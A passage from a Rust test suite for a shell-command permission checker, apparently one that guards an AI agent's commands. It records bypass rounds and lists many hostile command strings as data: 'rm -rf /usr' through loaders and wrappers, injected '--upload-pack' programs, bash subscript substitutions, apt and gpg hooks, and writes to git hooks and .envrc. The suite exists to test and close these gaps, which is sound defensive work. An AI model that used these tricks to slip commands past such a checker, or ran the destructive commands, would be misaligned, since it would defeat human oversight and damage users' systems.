        "x=\n[ -v 'a[$(touch pwned)]' ]",
        "x=(1)\n[ -v 'a[$(touch pwned)]' ]",
        "x=1 \n[ -v 'a[$(touch pwned)]' ]",
        "x=1\n\n[ -v 'a[$(touch pwned)]' ]",
    ];
    for line in lines {
        assert!(
            bash_creates_pwned(dir.path(), line, &[]),
            "bash did not run the substitution of {line:?}"
        );
    }
    allow_all().never_allowed(&lines);
    review().never_allowed(&lines);
    // What the parser does not join stays as it was (`x=1` newline `[ -f x ]` now asks: the
    // parser's reading cannot be trusted there).
    allow_all().all(Action::Allow, &["x=1\nls", "x=1; [ -f x ]"]);
}

/// Round 9 (found by the tricky-constructs oracle): `bash --rcfile FILE -ic CMD` (and
/// `--init-file`) runs FILE's commands first (the real bash ran the file's `touch`), and the
/// line was read as CMD alone.
#[test]
fn a_start_up_file_named_to_bash_is_code() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("e"), "touch pwned\n").unwrap();
    let lines = ["bash --rcfile e -ic true", "bash --init-file e -i -c true"];
    for line in lines {
        assert!(
            bash_creates_pwned(dir.path(), line, &[("HOME", "/nonexistent")]),
            "{line}"
        );
    }
    allow_all().never_allowed(&lines);
    allow_all().never_allowed(&["bash --rcfile=e -ic true", "bash --rcf e -ic ls"]);
}

/// Round 9: more programs that run the command they are given. The dynamic loader runs the
/// program it is given (the real `/lib64/ld-linux-x86-64.so.2 /usr/bin/touch M` made M), and
/// `setarch ARCH`/`linux64` without a command start a shell reading the input (the real ones
/// ran the input's `touch`), as `mise exec` does by its manual; `fakechroot`, `systemd-cat`,
/// `run-one` and its kin, `pixi run`, `rye run` and `guix shell --` run their argv (by their
/// manuals; systemd-cat needs a journal, which this machine lacks). Containers and remote
/// shells (`flatpak run`, `apptainer`/`singularity exec`, `distrobox enter`, `toolbox run`,
/// `lxc-attach`, `pdsh`) and GNU dc (`!` runs a shell command) ask.
#[test]
fn the_dynamic_loader_and_more_runners_are_read_or_ask() {
    let dir = tempfile::tempdir().unwrap();
    let loader = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
        .into_iter()
        .find(|l| Path::new(l).exists())
        .expect("no dynamic loader at a known path");
    assert!(bash_creates_pwned(
        dir.path(),
        &format!("{loader} /usr/bin/touch pwned"),
        &[]
    ));
    for wrapper in ["setarch $(uname -m)", "linux64"] {
        assert!(
            bash_creates_pwned(dir.path(), &format!("echo 'touch pwned' | {wrapper}"), &[]),
            "{wrapper}"
        );
    }
    let f = fixture(
        "[shell]\ndefault = \"allow\"\n[[shell.rules]]\npattern = \"rm -[rRf]*[rRf] /*\"\naction = \"deny\"\n",
        "deny",
    );
    f.all(
        Action::Deny,
        &[
            "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /usr",
            "/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --library-path /lib /bin/rm -rf /usr",
            "/lib/ld-musl-x86_64.so.1 /bin/rm -rf /usr",
            "fakechroot rm -rf /usr",
            "fakechroot -s -e debootstrap rm -rf /usr",
            "systemd-cat rm -rf /usr",
            "systemd-cat -t tag -p info rm -rf /usr",
            "run-one rm -rf /usr",
            "run-this-one rm -rf /usr",
            "keep-one-running rm -rf /usr",
            "run-one-until-success rm -rf /usr",
            "pixi run rm -rf /usr",
            "rye run rm -rf /usr",
            "guix shell -- rm -rf /usr",
            "guix shell coreutils -- rm -rf /usr",
        ],
    );
    f.never_allowed(&[
        "/lib64/ld-linux-x86-64.so.2 --preload /tmp/x.so /bin/ls",
        "/lib64/ld-linux-x86-64.so.2 --argv0 rm /bin/busybox -rf /usr",
        "echo 'rm -rf /usr' | setarch x86_64",
        "echo 'rm -rf /usr' | linux64",
        "echo 'rm -rf /usr' | fakechroot",
        "echo 'rm -rf /usr' | mise exec",
        "echo 'rm -rf /usr' | guix shell",
        "flatpak run --command=rm org.x.App -rf /usr",
        "apptainer exec img.sif rm -rf /usr",
        "singularity exec img.sif rm -rf /usr",
        "distrobox enter box -- rm -rf /usr",
        "toolbox run rm -rf /usr",
        "lxc-attach -n c -- rm -rf /usr",
        "pdsh -w host rm -rf /usr",
        "dc -e '!rm -rf /usr'",
        "echo '!rm -rf /usr' | dc",
        "dc script.dc",
    ]);
    f.all(
        Action::Allow,
        &[
            "/lib64/ld-linux-x86-64.so.2 --list /bin/ls",
            "/lib64/ld-linux-x86-64.so.2 --version",
            "pixi run pytest",
            "systemd-cat -t build make",
            "setarch x86_64 -R ls",
            "dc -e '2 3 + p'",
            "flatpak list",
        ],
    );
}

/// Round 9: `gpg --use-embedded-filename FILE` (any abbreviation down to `--use-e`) writes the
/// name stored in the encrypted packet, which the line does not show: the real GnuPG 2.2 wrote
/// `.envrc` from `x.gpg` (with `-d` too). It was allowed.
#[test]
fn gpgs_embedded_file_name_is_a_name_the_line_does_not_show() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let home = d.join("gh");
    std::fs::create_dir(&home).unwrap();
    let gpg = |args: &[&str]| {
        let out = std::process::Command::new("gpg")
            .arg("--homedir")
            .arg(&home)
            .args([
                "--batch",
                "--passphrase",
                "p",
                "--pinentry-mode",
                "loopback",
            ])
            .args(args)
            .current_dir(d)
            .output()
            .expect("gpg is not installed: run scripts/test-deps.sh");
        assert!(out.status.success(), "{args:?}: {out:?}");
    };
    std::fs::write(d.join(".envrc"), "echo hi\n").unwrap();
    gpg(&["-o", "x.gpg", "-c", ".envrc"]);
    for args in [
        &["--use-embedded-filename", "x.gpg"][..],
        &["-d", "--use-e", "x.gpg"],
    ] {
        std::fs::remove_file(d.join(".envrc")).unwrap();
        gpg(args);
        assert!(d.join(".envrc").exists(), "{args:?} did not write .envrc");
    }
    let f = fixture("[shell]\ndefault = \"allow\"\n", "deny");
    f.never_allowed(&[
        "gpg --use-embedded-filename x.gpg",
        "gpg -d --use-embedded-filename x.gpg",
        "gpg --use-e x.gpg",
        "gpg --batch --use-embedded x.gpg",
    ]);
    f.all(
        Action::Allow,
        &[
            "gpg --verify x.sig x",
            "gpg -d x.gpg",
            "gpg --no-use-embedded-filename x.gpg",
        ],
    );
}

/// Round 9: the default profile's `git push --force*` rule missed force pushes in other
/// spellings: `-f` (git's own short name for `--force`), a `+` refspec (`git push origin
/// +main` forces that ref) and `--mirror` (forces every ref); its `git clean -*f*` rule missed
/// `git clean -i`, which deletes what the input agrees to without `-f` (as `yes | rm -i`).
/// Checked with the real git: `-f` and `+main` replaced a diverged remote branch, a plain push
/// was refused, and `printf 'c\n' | git clean -i` removed the untracked file.
#[test]
fn git_force_pushes_and_interactive_cleans_in_every_spelling_meet_the_rules() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let sh = |script: &str| {
        let out = std::process::Command::new("bash")
            .args(["-ec", script])
            .current_dir(d)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@t")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@t")
            .output()
            .unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).to_string(),
        )
    };
    let (ok, _) = sh(
        "git init -q --bare remote.git && git init -q -b main w && cd w \
         && git commit -q --allow-empty -m a && git remote add origin ../remote.git \
         && git push -q origin main && git commit -q --amend --allow-empty -m b",
    );
    assert!(ok);
    assert!(
        !sh("cd w && git push -q origin main 2>/dev/null").0,
        "a plain push went through"
    );
    for push in ["git push -q -f origin main", "git push -q origin +main"] {
        assert!(
            sh(&format!(
                "cd w && git commit -q --amend --allow-empty -m c && {push}"
            ))
            .0,
            "{push}"
        );
    }
    let (_, left) = sh("cd w && touch junk && printf 'c\\n' | git clean -i >/dev/null; ls");
    assert!(!left.contains("junk"), "git clean -i left junk: {left}");

    let f = fixture(
        "[shell]\ndefault = \"allow\"\n[[shell.rules]]\npattern = \"git push --force*\"\naction = \"deny\"\n[[shell.rules]]\npattern = \"git clean -*f*\"\naction = \"deny\"\n",
        "deny",
    );
    f.all(
        Action::Deny,
        &[
            "git push -f",
            "git push -f origin main",
            "git push origin main -f",
            "git push -qf origin main",
            "git push origin +main",
            "git push origin +HEAD:main",
            "git push --mirror",
            "git push --mirror origin",
            "git clean -i",
            "git clean -di",
            "git clean --interactive",
        ],
    );
    f.all(
        Action::Allow,
        &[
            "git push",
            "git push origin main",
            "git push -u origin main",
            "git clean -n",
            "git clean -nd",
        ],
    );
}

/// Round 9: just and task (go-task) run the recipes of the file they are pointed at, or of the
/// one a directory holds, as `make -f`/`-C` do (which ask): `just --justfile F`, `-f`,
/// `--working-directory`/`-d`, `--shell`/`--shell-arg`/`--shell-command`/`--command`/`-c`,
/// `--dotenv-path`, `task --taskfile`/`-t`, `--dir`/`-d`, `--global`/`-g` were allowed under the
/// default profile (by their manuals: neither is installed here). The project's own `just
/// build`/`task test` stay allowed.
#[test]
fn just_and_task_pointed_at_another_file_ask() {
    let f = fixture("[shell]\ndefault = \"allow\"\n", "deny");
    f.never_allowed(&[
        "just -f /tmp/j build",
        "just --justfile=/tmp/j build",
        "just --just /tmp/j",
        "just -d / build",
        "just --working-directory / build",
        "just --shell sh --shell-arg -c build",
        "just --command 'rm -rf /usr'",
        "just -c 'rm x'",
        "just --dotenv-path /tmp/e build",
        "task -t /tmp/t.yml build",
        "task --taskfile /tmp/t.yml",
        "task -d / build",
        "task --dir=/ build",
        "task -g build",
        "task --global build",
    ]);
    f.all(
        Action::Allow,
        &[
            "just",
            "just build",
            "just --list",
            "task",
            "task test",
            "task --list",
        ],
    );
}

/// A rule on the spelling still matches after round 9's force reading: `git push -f` under a
/// rule `git push -f` (as `cordon init` writes) and `git push -f origin main` under `git push
/// -f origin main`.
#[test]
fn a_rule_on_gits_short_force_still_matches_it() {
    let f = fixture(
        "[shell]\ndefault = \"allow\"\n[[shell.rules]]\npattern = \"git push -f\"\naction = \"deny\"\n[[shell.rules]]\npattern = \"git clean -i\"\naction = \"ask\"\n",
        "deny",
    );
    f.all(Action::Deny, &["git push -f", "git push -f origin main"]);
    f.all(Action::Ask, &["git clean -i"]);
}

/// Round 9: programs that are what a deny rule names under another name. `mke2fs` is the
/// program `mkfs.ext2`/`mkfs.ext4` link to (checked below), `mkdosfs` is `mkfs.fat`'s; `halt`,
/// `poweroff`, `reboot`, `shutdown` and `telinit` are all links to systemctl here, which acts
/// on the name (`telinit 0` powers off, `telinit 6` reboots), as `systemctl poweroff`/`reboot`
/// do. The default profile's `mkfs*`, `shutdown` and `reboot` rules missed the other names.
/// Each is also read as the name the rule knows (a reading: it passes unless a rule names it).
#[test]
fn a_program_under_another_name_meets_the_rule_on_that_name() {
    let real = |p: &str| std::fs::canonicalize(p).unwrap();
    assert_eq!(real("/sbin/mkfs.ext2"), real("/sbin/mke2fs"));
    let f = fixture(
        "[shell]\ndefault = \"allow\"\n[[shell.rules]]\npattern = \"mkfs*\"\naction = \"deny\"\n[[shell.rules]]\npattern = \"shutdown\"\naction = \"deny\"\n[[shell.rules]]\npattern = \"reboot\"\naction = \"deny\"\n",
        "deny",
    );
    f.all(
        Action::Deny,
        &[
            "mke2fs /dev/sda1",
            "/sbin/mke2fs -t ext4 /dev/sda1",
            "mkdosfs /dev/sdb1",
            "halt",
            "poweroff",
            "poweroff -f",
            "telinit 0",
            "init 6",
            "systemctl poweroff",
            "systemctl halt",
            "systemctl reboot",
            "systemctl --no-block kexec",
        ],
    );
    f.all(
        Action::Allow,
        &["telinit q", "systemctl status", "mke2fs_wrapper x"],
    );
}

/// Round 10. `cargo vendor DIR` empties DIR (unless `--no-delete`) before it writes the crates'
/// sources under it: the real cargo 1.95 emptied the directory it was given (`keep/x` was
/// gone; `cargo vendor .git` took a repository's `HEAD`, `config` and `objects`, `cargo vendor
/// src` would take the project's code). Rounds 8 and 9 left it as writing only directories of
/// crate sources; the default profile allowed it. A crate's files are names the line does not
/// show, so it asks whatever the rules say.
#[test]
fn cargo_vendor_empties_its_directory_and_writes_names_the_line_does_not_show() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir_all(d.join("src")).unwrap();
    std::fs::create_dir_all(d.join("keep")).unwrap();
    std::fs::write(
        d.join("Cargo.toml"),
        "[package]\nname = \"v\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::write(d.join("src/main.rs"), "fn main() {}\n").unwrap();
    std::fs::write(d.join("keep/x"), "x").unwrap();
    let out = std::process::Command::new("cargo")
        .args(["vendor", "--offline", "keep"])
        .current_dir(d)
        .output()
        .expect("cargo is needed for this test");
    assert!(out.status.success(), "{out:?}");
    assert!(
        d.join("keep").is_dir() && !d.join("keep/x").exists(),
        "cargo vendor kept what its directory held"
    );
    let f = default_profile();
    f.never_allowed(&[
        "cargo vendor",
        "cargo vendor .git",
        "cargo vendor src",
        "cargo vendor --versioned-dirs third_party",
        "cargo vendor -s sub/Cargo.toml out",
        "cargo vendor --no-delete vendor",
        "cargo --locked vendor vendor",
        "cargo vendor /tmp/out",
    ]);
    f.all(
        Action::Allow,
        &[
            "cargo build",
            "cargo test -p x",
            "cargo vendor --help",
            "cargo tree",
        ],
    );
}

/// Round 10. tcpdump runs `-z CMD FILE` on each file it closes when `-C`/`-G` rotate its `-w`
/// output: the real tcpdump 4.99 ran the script `-z` named on the pieces of a capture it read
/// back with `-r` (no capture privileges needed). It was allowed (default profile). `-w FILE`
/// is a write; with `-G` FILE is a time format, not the name written.
#[test]
fn tcpdump_runs_its_rotation_command() {
    assert!(
        on_path("tcpdump"),
        "tcpdump is needed for this test: run scripts/test-deps.sh"
    );
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    // 40 Ethernet frames of 60 kB: more than one piece of `-C 1` (1,000,000 bytes).
    let mut pcap = Vec::new();
    for v in [0xa1b2_c3d4u32, 0x0004_0002, 0, 0, 65535, 1] {
        pcap.extend(v.to_le_bytes());
    }
    let frame = vec![0u8; 60_015];
    for i in 0..40u32 {
        for v in [1000 + i, 0, 60_015, 60_015] {
            pcap.extend(v.to_le_bytes());
        }
        pcap.extend(&frame);
    }
    std::fs::write(d.join("in.pcap"), pcap).unwrap();
    std::fs::write(d.join("z"), "#!/bin/sh\ntouch pwned\n").unwrap();
    std::fs::set_permissions(
        d.join("z"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    // `-Z root`: as root tcpdump would switch to its own user, who cannot write here. The
    // command runs in a child tcpdump does not wait for.
    bash_creates_pwned(d, "tcpdump -r in.pcap -w out -C 1 -Z root -z ./z", &[]);
    let ran = (0..50).any(|_| {
        std::thread::sleep(std::time::Duration::from_millis(100));
        d.join("pwned").exists()
    });
    assert!(ran, "tcpdump did not run its -z command");
    let f = default_profile();
    f.never_allowed(&[
        "tcpdump -r in.pcap -w out -C 1 -z ./z",
        "tcpdump -i lo -w out -G 60 -z gzip",
        "tcpdump -w out -C1 -zgzip",
        "tcpdump -r in.pcap -w .git/hooks/pre-commit",
        "tcpdump -r in.pcap -w .envrc",
        "tcpdump -w 'x%H' -G 60",
    ]);
    f.all(
        Action::Allow,
        &[
            "tcpdump -r in.pcap",
            "tcpdump -nn -r in.pcap port 80",
            "tcpdump -i lo -c 10 -w out.pcap",
        ],
    );
}

/// Round 10. APT runs the commands its configuration names (`APT::Update::Pre-Invoke`,
/// `DPkg::Pre-Invoke`, `Dir::Bin::dpkg`, …), which `-o` and `-c FILE` set: the real apt-get 2.6
/// ran `-o APT::Update::Pre-Invoke::=touch pwned` and a `-c` file's hook before `update` (its
/// sources, lists and cache pointed into the test's directory: nothing is fetched or written
/// elsewhere). apt and apt-get install, remove and update the system outside the roots and run
/// the packages' maintainer scripts as root, as dpkg does (round 7): only the verbs that read,
/// and the changing ones simulated, pass. All were allowed (default profile).
#[test]
fn apt_runs_what_its_options_configure_and_changes_the_system() {
    let dir = tempfile::tempdir().unwrap();
    let d = &std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir_all(d.join("lists/partial")).unwrap();
    std::fs::create_dir_all(d.join("cache")).unwrap();
    // Every directory absolute: a relative one is taken below the system's (`lists` is
    // /var/lib/apt/lists, which an update with no sources empties). The system's own hooks
    // (apt.conf.d's `Post-Invoke`) are cleared by a `-c` file.
    let a = d.display();
    let clear = "#clear APT::Update::Post-Invoke-Success;\n#clear APT::Update::Post-Invoke;\n";
    std::fs::write(d.join("clear.conf"), clear).unwrap();
    let here = format!("-c {a}/clear.conf -o Dir::Etc::SourceList=/dev/null -o Dir::Etc::SourceParts={a}/none -o Dir::State::Lists={a}/lists -o Dir::Cache={a}/cache");
    assert!(
        bash_creates_pwned(
            d,
            &format!("apt-get {here} -o 'APT::Update::Pre-Invoke::=touch {a}/pwned' update"),
            &[]
        ),
        "apt-get did not run its Pre-Invoke hook"
    );
    std::fs::write(
        d.join("apt.conf"),
        format!("APT::Update::Pre-Invoke {{ \"touch {a}/pwned\"; }};\n"),
    )
    .unwrap();
    assert!(
        bash_creates_pwned(d, &format!("apt-get {here} -c apt.conf update"), &[]),
        "apt-get did not run the hook of its -c file"
    );
    let f = default_profile();
    f.never_allowed(&[
        "apt-get -o 'APT::Update::Pre-Invoke::=touch pwned' update",
        "apt-get -oDPkg::Pre-Invoke::=x -s install foo",
        "apt --option=Dir::Bin::dpkg=./x -s install foo",
        "apt-get -c apt.conf -s install foo",
        "apt-get --config-file=apt.conf check -s",
        "apt-cache -o Dir::Cache::pkgcache=x show bash",
        "apt-get install -y foo",
        "apt install ./foo.deb",
        "apt remove foo",
        "apt-get update",
        "apt upgrade",
        "apt-get source foo",
        "apt-get download foo",
        "apt-get build-dep foo",
        "apt-get \"$verb\" foo",
        "apt-mark -o x=y hold foo",
    ]);
    f.all(
        Action::Allow,
        &[
            "apt list --installed",
            "apt show bash",
            "apt-cache policy bash",
            "apt-cache search ripgrep",
            "apt-get -s install foo",
            "apt-get --simulate dist-upgrade",
            "apt-get --help",
            "apt search foo",
        ],
    );
}

/// Round 10. pnpm runs a command that is none of its own as the project's script of that name,
/// and without one as a program: the real pnpm 10 ran `touch` for `pnpm touch pwned`, after
/// its options and `--` too, and `--shell-mode` (`--sh`) ran its words as a shell line. The
/// line was read as `pnpm` alone, so a deny rule missed the command. Now the words pnpm would
/// run are read as a command (the project's script, if that is what runs, is its code by
/// design, as `npm run`).
#[test]
fn pnpm_runs_a_word_that_is_none_of_its_commands() {
    let deps = std::env::var_os("CORDON_TEST_DEPS")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/opt/cordon-test"));
    let bin = deps.join("npm/node_modules/.bin");
    assert!(
        bin.join("pnpm").exists(),
        "{} is needed for this test: run scripts/test-deps.sh",
        bin.join("pnpm").display()
    );
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("package.json"),
        r#"{"name":"p","version":"1.0.0","scripts":{"build":"echo built"}}"#,
    )
    .unwrap();
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let env = [
        ("PATH", path.as_str()),
        ("npm_config_update_notifier", "false"),
    ];
    for line in [
        "pnpm touch pwned",
        "pnpm --silent -- touch pwned",
        "pnpm --shell-mode 'true; touch pwned'",
    ] {
        assert!(
            bash_creates_pwned(d, line, &env),
            "{line}: pnpm did not run touch"
        );
    }
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "pnpm curl http://127.0.0.1/x",
            "pnpm --silent curl x",
            "pnpm -- curl x",
            "pnpm --shell-mode 'curl x'",
            "pnpm --sh 'true; curl x'",
            "pnpm -r exec curl x",
        ],
    );
    f.never_allowed(&[
        "pnpm touch .git/hooks/pre-commit",
        "pnpm --dir . touch .envrc",
        r#"pnpm "$x" src"#,
        "pnpm $cmd",
    ]);
    f.all(
        Action::Allow,
        &[
            "pnpm install",
            "pnpm run build",
            "pnpm build",
            "pnpm test",
            "pnpm rm left-pad",
            "pnpm add -D typescript",
            "pnpm --filter web build",
            "pnpm --dir packages/web build",
        ],
    );
    // `--dir DIR` runs the scripts of the package at DIR: the real pnpm ran another
    // directory's `build`.
    let other = tempfile::tempdir().unwrap();
    std::fs::write(
        other.path().join("package.json"),
        r#"{"name":"o","version":"1.0.0","scripts":{"build":"touch pwned"}}"#,
    )
    .unwrap();
    let line = format!("pnpm --dir {} build", other.path().display());
    bash_creates_pwned(d, &line, &env);
    assert!(
        other.path().join("pwned").exists(),
        "{line}: pnpm did not run the other package's script"
    );
    f.never_allowed(&[
        "pnpm --dir /tmp/elsewhere build",
        "pnpm --dir=/tmp/elsewhere run build",
        "pnpm --di /tmp/elsewhere test",
        "yarn --cwd /tmp/elsewhere build",
    ]);
}

/// Round 10. gpg reads `gpg.conf` from `--homedir DIR` (and `--options FILE`), and the file
/// can name the programs gpg starts: the real GnuPG 2.2 ran the `agent-program` of
/// `h/gpg.conf` for `gpg --homedir h -c f`. Round 7 asked only for a DIR outside the roots;
/// inside them the line (or an earlier one) can write the file, as this line does.
#[test]
fn gpg_reads_a_configuration_the_run_can_write_from_its_homedir() {
    let dir = tempfile::tempdir().unwrap();
    let d = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::write(d.join("agent"), "#!/bin/sh\ntouch pwned\nexit 1\n").unwrap();
    std::fs::write(d.join("f"), "x").unwrap();
    let line = format!(
        "chmod +x agent && mkdir -m 700 h && echo 'agent-program {}/agent' > h/gpg.conf && timeout 30 gpg --batch --homedir h --pinentry-mode loopback --passphrase x -o f.gpg -c f",
        d.display()
    );
    assert!(
        bash_creates_pwned(&d, &line, &[]),
        "gpg did not run the agent-program of its homedir's gpg.conf"
    );
    let f = allow_all();
    f.never_allowed(&[
        "mkdir -m 700 h && echo 'agent-program ./agent' > h/gpg.conf && gpg --homedir h -c f",
        "gpg --homedir keys --list-keys",
        "gpg --home=keys -d f.gpg",
        "gpg --options keys/gpg.conf -d f.gpg",
    ]);
    f.all(Action::Allow, &["gpg -d f.gpg", "gpg --list-keys"]);
}

/// Round 10. `git fetch-pack` and `git send-pack`, the plumbing under `fetch` and `push`, run
/// the program their `--upload-pack`, `--receive-pack` or `--exec` names, through the shell:
/// the real git 2.47 ran each. `git fetch --upload-pack` asked since round 5; the plumbing was
/// allowed (default profile).
#[test]
fn git_fetch_pack_and_send_pack_run_the_program_they_are_given() {
    let dir = tempfile::tempdir().unwrap();
    let d = std::fs::canonicalize(dir.path()).unwrap();
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(&d)
            .output()
            .expect("git");
        assert!(out.status.success(), "{args:?}: {out:?}");
    };
    git(&["init", "-q", "a"]);
    git(&[
        "-C",
        "a",
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@t",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "x",
    ]);
    git(&["init", "-q", "b"]);
    let pwned = d.join("pwned");
    for line in [
        "cd b && git fetch-pack --upload-pack='touch ../pwned; git-upload-pack' ../a",
        "cd b && git fetch-pack --exec='touch ../pwned; git-upload-pack' ../a",
        "cd b && git send-pack --receive-pack='touch ../pwned; git-receive-pack' ../a",
        "cd b && git send-pack --exec='touch ../pwned; git-receive-pack' ../a",
    ] {
        let _ = std::fs::remove_file(&pwned);
        bash_creates_pwned(&d, line, &[]);
        assert!(pwned.exists(), "{line}: git did not run the program");
    }
    let f = default_profile();
    f.never_allowed(&[
        "git fetch-pack --upload-pack='touch x' ../a",
        "git fetch-pack --exec=x ../a",
        "git send-pack --receive-pack='touch x' ../a main",
        "git send-pack --rec='touch x' ../a main",
        "git send-pack --exec x ../a main",
    ]);
    f.all(
        Action::Allow,
        &["git fetch-pack ../a", "git send-pack --dry-run ../a main"],
    );
}

/// Round 10. perl, ruby and node given no script (or `-`) run the program they read from their
/// input: the real perl 5.36, ruby 3.1 and node 20 each ran the `touch` they read. python did
/// since round 6 and `perl -e` since round 5; these were allowed (default profile, and past a
/// deny rule on what they run).
#[test]
fn interpreters_that_read_their_program_from_the_input_run_code_the_line_does_not_show() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    for line in [
        "echo 'system \"touch pwned\"' | perl",
        "echo 'system \"touch pwned\"' | perl -",
        "echo 'system \"touch pwned\"' | ruby",
        "echo 'require(\"fs\").writeFileSync(\"pwned\", \"\")' | node",
    ] {
        assert!(bash_creates_pwned(d, line, &[]), "{line}: ran nothing");
    }
    let f = allow_all();
    f.never_allowed(&[
        "echo 'system \"rm -rf src\"' | perl",
        "perl < x.pl",
        "perl -n < x.pl",
        "perl -w -",
        "cat x.rb | ruby",
        "ruby -w",
        "cat x.js | node",
        "node - < x.js",
        "node -i < x.js",
    ]);
    f.all(
        Action::Allow,
        &[
            "perl x.pl",
            "perl -w x.pl arg",
            "perl -v",
            "ruby x.rb",
            "ruby --version",
            "node x.js",
            "node --test",
            "node --version",
        ],
    );
}

/// Round 10. R's and Tcl's interpreters run the code on their line and the program they read
/// from their input, as python (`-c`, the input) and perl (`-e`) do: the real Rscript 4.2 ran
/// `Rscript -e 'system(…)'` and the `system()` it read with `Rscript -`, R 4.2 ran `R -e` and
/// what `R --no-save` read from its input, and R through the program `-d` names, and tclsh
/// 8.6 the `exec` it read. All were allowed (default profile, and past a deny rule on what
/// they run).
#[test]
fn r_and_tcl_run_the_code_on_their_line_or_from_their_input() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("dbg"), "#!/bin/sh\ntouch pwned\n").unwrap();
    std::fs::set_permissions(
        d.join("dbg"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    for line in [
        "timeout 60 R -d ./dbg --no-save < /dev/null",
        "timeout 60 Rscript -e 'system(\"touch pwned\")'",
        "echo 'system(\"touch pwned\")' | timeout 60 Rscript -",
        "timeout 60 R --no-save -q -e 'system(\"touch pwned\")'",
        "echo 'system(\"touch pwned\")' | timeout 60 R --no-save -q",
        "echo 'exec touch pwned' | tclsh",
    ] {
        assert!(bash_creates_pwned(d, line, &[]), "{line}: ran nothing");
    }
    let f = allow_all();
    f.never_allowed(&[
        "Rscript -e 'system(\"rm -rf src\")'",
        "Rscript -",
        "cat x.R | Rscript -",
        "R -e 'system(\"rm -rf src\")'",
        "R --no-save < x.R",
        "R --vanilla -q x.R < y",
        "R -d gdb",
        "R --debugger=valgrind -f x.R",
        "echo 'exec rm -rf src' | tclsh",
        "tclsh8.6 < x.tcl",
        "wish < x.tcl",
    ]);
    f.all(
        Action::Allow,
        &[
            "Rscript x.R",
            "Rscript --vanilla x.R arg",
            "R -q -f x.R",
            "R --no-save --file=x.R",
            "R CMD BATCH x.R",
            "R --version",
            "tclsh x.tcl",
            "tclsh8.6 x.tcl arg",
        ],
    );
}

/// Round 10, a false ask. `python -m pytest ARGS` asked under the default profile (`-m` runs a
/// module, and no rule named it), though its arguments are judged as `pytest ARGS` (round 5)
/// and `pytest` is allowed. python looks for the module in the working directory first (the
/// real python 3.11 ran a `pytest.py` there): code at `.`, the project's inside the roots, as
/// `python x.py` is. After a `cd`, or with any other module, it still asks.
#[test]
fn python_m_pytest_is_pytest_or_the_working_directorys_module() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("pytest.py"), "open('pwned', 'w')\n").unwrap();
    assert!(
        bash_creates_pwned(d, "python3 -m pytest -q", &[]),
        "python did not run the directory's pytest module"
    );
    let f = default_profile();
    f.all(
        Action::Allow,
        &[
            "python3 -m pytest -q",
            "python -m pytest tests -x",
            "python3.12 -Bm pytest",
            "python3 -m py.test -k x",
        ],
    );
    f.never_allowed(&[
        "cd /tmp && python3 -m pytest",
        "cd sub && python3 -m pytest",
        "python3 -m pytest -p evil",
        "python3 -m pytest /tmp/evil",
        "python3 -m pip install x",
        "python3 -m http.server",
        "python3 -c 'import os' -m pytest",
    ]);
}

/// Round 10. `wait -p NAME` assigns the waited job's id to NAME, and bash evaluates a subscript
/// in NAME as it does for `read NAME` and `printf -v NAME` (round 7): the real bash 5.2 ran the
/// `$(…)` of `wait -n -p 'a[$(…)]'`. It was a documented blind spot, and allowed (allow-all,
/// past a deny rule on the command inside).
#[test]
fn wait_p_evaluates_the_name_it_assigns() {
    let dir = tempfile::tempdir().unwrap();
    assert!(
        bash_creates_pwned(dir.path(), "sleep 0 & wait -n -p 'a[$(touch pwned)]'", &[]),
        "bash did not evaluate wait -p's subscript"
    );
    let f = allow_all();
    f.never_allowed(&[
        "sleep 0 & wait -n -p 'a[$(rm -rf src)]'",
        "wait -p 'a[$(rm src)]'",
        "wait -np 'a[$(rm src)]' %1",
        "wait -p \"$n\"",
        "wait -p PATH",
        "wait $pid",
        "wait \"$f\" \"$g\"",
    ]);
    f.all(
        Action::Allow,
        &[
            "sleep 1 & wait",
            "wait -n",
            "sleep 0 & wait -p pid; echo \"$pid\"",
            "wait %1",
            "wait \"$pid\"",
        ],
    );
}

/// Round 10. `go install` writes the program it builds into `$GOBIN`, by default `~/go/bin`,
/// a directory of the operator's PATH outside the roots: the real go 1.19 wrote
/// `$GOPATH/bin/hello` for a module of the test's. `cargo install` asked since round 6 for the
/// same reason (`~/.cargo/bin`); `go install` was allowed (default profile).
#[test]
fn go_install_writes_the_operators_bin_directory() {
    let dir = tempfile::tempdir().unwrap();
    let d = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir_all(d.join("m")).unwrap();
    std::fs::write(d.join("m/go.mod"), "module example.org/hello\n\ngo 1.19\n").unwrap();
    std::fs::write(d.join("m/main.go"), "package main\n\nfunc main() {}\n").unwrap();
    let out = std::process::Command::new("go")
        .args(["install", "."])
        .current_dir(d.join("m"))
        .env("GOPATH", d.join("gp"))
